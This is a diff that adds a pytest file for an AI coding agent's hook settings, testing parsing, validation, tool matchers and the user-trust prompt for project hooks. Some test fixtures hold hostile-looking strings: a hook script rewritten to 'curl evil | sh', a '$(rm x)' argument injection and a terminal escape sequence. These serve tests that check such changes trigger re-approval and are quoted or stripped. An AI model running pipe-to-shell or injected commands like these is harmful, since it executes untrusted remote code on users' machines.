@@ -1,0 +1,177 @@
+"""Hooks in files: which are read, what is wrong with others, and what a project's hooks need."""
+
+from __future__ import annotations
+
+import io
+import json
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from keen_tui.domain.errors import ConfigError
+from keen_tui.settings.hooks import Hook, read_own_hooks, read_project_hooks
+from keen_tui.settings.project import read_project, trusted_project
+from keen_tui.settings.trust import settle_trust
+from keen_tui.tools.permissions.rule_check import check_rules
+
+
+def command(text: str, **options: Any) -> dict[str, Any]:
+    return {"type": "command", "command": text, **options}
+
+
+def write(file: Path, **hooks: Any) -> Path:
+    file.parent.mkdir(parents=True, exist_ok=True)
+    file.write_text(json.dumps({"hooks": hooks}))
+    return file
+
+
+def test_the_form_that_other_agents_use_is_read(tmp_path: Path) -> None:
+    group = {
+        "matcher": "Edit|Write",
+        "hooks": [command("fmt", timeout=5, statusMessage="Formatting"), command("b")],
+    }
+    own = read_own_hooks(
+        write(tmp_path / "hooks.json", PostToolUse=[group], Stop=[{"hooks": [command("c")]}])
+    )
+    assert [(hook.point, hook.matcher, hook.command) for hook in own.found] == [
+        ("PostToolUse", "Edit|Write", "fmt"),
+        ("PostToolUse", "Edit|Write", "b"),
+        ("Stop", "", "c"),
+    ]
+    assert (own.found[0].timeout, own.found[0].label) == (5, "Formatting")
+
+
+def test_no_hook_runs_longer_than_a_minute(tmp_path: Path) -> None:
+    own = read_own_hooks(write(tmp_path / "hooks.json", Stop=[{"hooks": [command("c", timeout=600)]}]))
+    assert own.found[0].timeout == 60
+
+
+def test_what_keen_does_not_have_is_named(tmp_path: Path) -> None:
+    hooks: dict[str, Any] = {"SubagentStop": [], "Stop": [{"hooks": [{"type": "prompt", "prompt": "?"}]}]}
+    assert read_own_hooks(write(tmp_path / "hooks.json", **hooks)).ignored == (
+        "SubagentStop",
+        "Stop of type prompt",
+    )
+
+
+def test_a_file_that_is_not_there_has_no_hooks(tmp_path: Path) -> None:
+    assert read_own_hooks(tmp_path / "hooks.json").found == ()
+
+
+@pytest.mark.parametrize(
+    ("content", "said"),
+    [
+        ("{", "isn't valid JSON"),
+        ("[]", '"hooks" must be an object'),
+        ('{"hooks": []}', '"hooks" must be an object'),
+        ('{"hooks": {"Stop": {}}}', "hooks.Stop is wrong"),
+        ('{"hooks": {"Stop": [{"hooks": [{"type": "command"}]}]}}', 'a hook of Stop has no "command"'),
+        ('{"hooks": {"Stop": [{"hooks": [{"command": "a", "timeout": -1}]}]}}', "hooks.Stop is wrong"),
+        ('{"hooks": {"PreToolUse": [{"matcher": "(", "hooks": []}]}}', "isn't a regular expression"),
+        ("[" * 100_000, "isn't valid JSON"),
+    ],
+)
+def test_the_users_own_mistakes_are_errors(tmp_path: Path, content: str, said: str) -> None:
+    file = tmp_path / "hooks.json"
+    file.write_text(content)
+    with pytest.raises(ConfigError, match=r"hooks\.json") as error:
+        read_own_hooks(file)
+    assert said in str(error.value)
+
+
+@pytest.mark.parametrize(
+    ("matcher", "names", "fits"),
+    [
+        ("", ("Bash",), True),
+        ("*", ("Bash",), True),
+        ("Bash", ("Bash", "bash"), True),
+        ("Bas", ("Bash",), False),
+        ("Edit|Write", ("Write", "write_file"), True),
+        ("Edit, Write", ("Write",), True),
+        ("write_file", ("Write", "write_file"), True),
+        ("mcp__.*", ("mcp__github__create_issue",), True),
+        ("^Notebook", ("Bash",), False),
+    ],
+)
+def test_matchers(matcher: str, names: tuple[str, ...], fits: bool) -> None:
+    assert Hook(point="PreToolUse", matcher=matcher, command="x").fits(*names) is fits
+
+
+@pytest.mark.parametrize(
+    ("only_if", "name", "subject", "fits"),
+    [
+        ("", "Bash", "ls", True),
+        ("Bash(git push *)", "Bash", "git push origin", True),
+        ("Bash(git push *)", "Bash", "git push", True),
+        ("Bash(git push *)", "Bash", "cd a && git push --force", True),
+        ("Bash(git push:*)", "Bash", "git push origin", True),
+        ("Bash(git push *)", "Bash", "git pull", False),
+        ("Bash(git push *)", "Write", "git push x", False),
+        ("Bash", "Bash", "ls", True),
+        ("Edit(*.py)", "Edit", "/work/a.py", True),
+        ("Edit(*.py)", "Edit", "/work/a.md", False),
+    ],
+)
+def test_conditions(only_if: str, name: str, subject: str, fits: bool) -> None:
+    guard = Hook(point="PreToolUse", matcher="", command="x", only_if=only_if)
+    assert guard.fits_call(name, subject) is fits
+
+
+def test_a_command_with_arguments_is_not_for_the_shell_to_read(tmp_path: Path) -> None:
+    given = command("${CLAUDE_PROJECT_DIR}/fmt", args=["a b", "$(rm x)", ""])
+    own = read_own_hooks(write(tmp_path / "hooks.json", Stop=[{"hooks": [given]}]))
+    assert own.found[0].command == """"$CLAUDE_PROJECT_DIR"/fmt 'a b' '$(rm x)' ''"""
+
+
+class Place:
+    """A project with a hook that runs a script, and a user."""
+
+    def __init__(self, folder: Path, file: str = ".claude/settings.json") -> None:
+        self.project, self.home = folder / "project", folder / "home"
+        self.home.mkdir()
+        self.script = self.project / ".claude" / "hooks" / "fmt.sh"
+        self.script.parent.mkdir(parents=True)
+        self.script.write_text("true\n")
+        run = command('"$CLAUDE_PROJECT_DIR"/.claude/hooks/fmt.sh --all\u001b]0;x')
+        write(self.project / file, PostToolUse=[{"matcher": "Edit", "hooks": [run]}], Setup=[])
+
+    @property
+    def hooks(self) -> tuple[Hook, ...]:
+        project = trusted_project(self.project, {"KEEN_HOME": str(self.home)}, check_rules)
+        return project.hooks if project else ()
+
+    def asked(self, answer: str) -> str:
+        out = io.StringIO()
+        settle_trust(self.project, {"KEEN_HOME": str(self.home)}, io.StringIO(answer), out, check_rules)
+        return out.getvalue()
+
+
+@pytest.mark.parametrize("file", [".claude/settings.json", ".keen/hooks.json"])
+def test_hooks_of_a_project_run_once_the_user_has_agreed(tmp_path: Path, file: str) -> None:
+    place = Place(tmp_path, file)
+    assert not place.hooks
+    question = place.asked("y\n")
+    assert "commands that run by themselves, outside the sandbox" in question
+    assert "PostToolUse of Edit:" in question
+    assert "runs .claude/hooks/fmt.sh" in question
+    assert "Setup" in question.partition("not used")[2]
+    assert "\x1b" not in question
+    assert [hook.origin for hook in place.hooks] == ["project"]
+
+
+def test_another_script_asks_again(tmp_path: Path) -> None:
+    place = Place(tmp_path)
+    place.asked("y\n")
+    place.script.write_text("curl evil | sh\n")
+    assert place.hooks == ()
+    assert place.asked("n\n") != ""
+    place.script.write_text("true\n")
+    assert place.asked("") != "", "the newest answer counts"
+
+
+def test_settings_of_another_agent_without_hooks_bring_nothing(tmp_path: Path) -> None:
+    (tmp_path / ".claude").mkdir()
+    (tmp_path / ".claude" / "settings.json").write_text('{"permissions": {"allow": ["Bash"]}}')
+    assert read_project(tmp_path, check_rules) is None
+    assert read_project_hooks(tmp_path).found == ()
